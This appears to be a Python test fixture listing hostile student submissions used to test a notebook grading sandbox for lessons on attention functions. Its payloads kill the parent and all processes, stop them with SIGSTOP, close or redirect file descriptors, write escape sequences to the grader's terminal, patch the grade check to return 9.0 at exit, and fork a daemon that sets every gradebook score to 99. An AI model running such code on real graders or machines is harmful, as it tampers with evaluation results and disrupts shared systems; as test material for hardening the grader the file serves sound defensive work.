"""Ending its own process, that of others, or the connection between them; and living on."""

from hostile.submission import LOOT, PORT, SDPA, Submission

MIDDLE = {"before": "padding_mask"}
ENDED = "ended the process"
# Where no namespace protects the machine, the signal is not sent and the attack counts as a success.
ALONE = f"""import os, signal
def alone():
    try:
        return os.readlink("/proc/self/ns/pid") != "pid:[4026531836]" or os.geteuid() != 0
    except OSError:
        return True
def loot(what):
    print("{LOOT}", what, flush=True)
"""


def ends(name: str, tries: str, code: str, **more) -> Submission:
    return Submission(name, tries, code, **MIDDLE | {"flag": ENDED} | more)


SUBMISSIONS = [
    ends("os_exit", "Ends the process with `os._exit(0)` in a cell.", "import os\nos._exit(0)\n"),
    ends("os_abort", "Ends the process with `os.abort()` in a cell.", "import os\nos.abort()\n"),
    ends(
        "segfault",
        "Reads address 0 with ctypes.",
        "import ctypes, faulthandler\nfaulthandler.disable()\nctypes.string_at(0)\n",
    ),
    Submission(
        "exits_in_answers",
        "Its answers raise SystemExit, KeyboardInterrupt and GeneratorExit.",
        answers={
            "additive_attention": "def additive_attention(*args):\n    raise KeyboardInterrupt\n",
            SDPA: f"def {SDPA}(*args, mask=None):\n    raise GeneratorExit\n",
            "causal_mask": "def causal_mask(size):\n    raise SystemExit(0)\n",
        },
    ),
    Submission(
        "exit_in_answer",
        "Its answer ends the process with `os._exit(0)` while it is being checked.",
        # No flag: what ends is a copy of the process, which this answer has for itself.
        answers={SDPA: f"def {SDPA}(*args, mask=None):\n    import os\n    os._exit(0)\n"},
    ),
    Submission(
        "odd_exception",
        "Its answers raise exceptions that cannot be shown: their text raises, ends, or is 50 MB.",
        answers={
            "additive_attention": """class Mute(Exception):
    def __str__(self):
        raise Mute
    __repr__ = __format__ = __str__
def additive_attention(*args):
    raise Mute
""",
            SDPA: f"def {SDPA}(*args, mask=None):\n    raise ValueError('9' * 50_000_000)\n",
            "causal_mask": """class Loud(Exception):
    def __str__(self):
        import sys
        sys.exit(0)
def causal_mask(size):
    raise Loud
""",
        },
    ),
    ends(
        "signals_to_all",
        "Sends SIGKILL to its parent, its process group and all processes.",
        ALONE
        + """if not alone():
    loot("could kill all processes of this machine")
    os.kill(os.getppid(), signal.SIGKILL)
else:
    try:
        if os.getppid() > 1:
            os.kill(os.getppid(), signal.SIGKILL)
    finally:
        os.kill(-1, signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
""",
        flag="",
    ),
    ends(
        "stopped",
        "Stops itself with SIGSTOP, its parent too where it can.",
        ALONE
        + """try:
    if alone() and os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGSTOP)
except OSError:
    pass
os.kill(os.getpid(), signal.SIGSTOP)
""",
        flag="",
    ),
    Submission(
        "lives_on",
        "A daemon, forked twice, in its own session, that waits and then writes into the gradebook.",
        f"""import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ["CANARY_{PORT}"] = "1"
        script = '''import glob, sqlite3, time
time.sleep(8)
for path in glob.glob("/proc/[0-9]*/cwd/gradebook.db") + glob.glob("../../../gradebook.db"):
    database = sqlite3.connect(path, timeout=5)
    database.execute("update grade set manual_score = 99")
    database.commit()
time.sleep(50)
'''
        os.closerange(0, 256)
        os.execvp("python3", ["canary-{PORT}", "-c", script])
    os._exit(0)
os.wait()
""",
        **MIDDLE,
    ),
    Submission(
        "late_work",
        "Registers functions at exit, finalizers and a timer that print scores and patch when all is done.",
        """import atexit, threading, weakref, os
def late(*args):
    print("9.0")
    from course_lib.checks.lesson import Lesson
    Lesson.check = lambda self, name, answer, trial=False: 9.0
atexit.register(late)
weakref.finalize(get_ipython(), late)
timer = threading.Timer(1.0, late)
timer.start()
os.register_at_fork(after_in_child=late, before=late)
""",
        **MIDDLE,
    ),
    Submission(
        "terminal_written",
        "Writes to the terminal of who grades: every way to stdout, stderr and /dev/tty.",
        f"""import os, sys
text = b"\\x1b]0;yours\\x07{LOOT} the terminal of who grades\\n"
for path in (0, 1, 2, "/dev/tty", "/dev/console", "/proc/self/fd/1", "/proc/self/fd/2", "/proc/1/fd/2"):
    try:
        os.write(path if isinstance(path, int) else os.open(path, os.O_WRONLY), text)
    except OSError:
        pass
""",
        **MIDDLE,
    ),
    ends(
        "descriptors_closed",
        "Closes all file descriptors up to 1024.",
        "import os\nos.closerange(0, 1024)\n",
        flag="",
    ),
    ends(
        "descriptors_redirected",
        "Points stdout, stderr and every other file descriptor at /dev/null.",
        """import os
null = os.open("/dev/null", os.O_RDWR)
for fd in range(256):
    if fd != null:
        try:
            os.fstat(fd)
            os.dup2(null, fd)
        except OSError:
            pass
print("nobody hears this")
""",
        flag="",
    ),
]
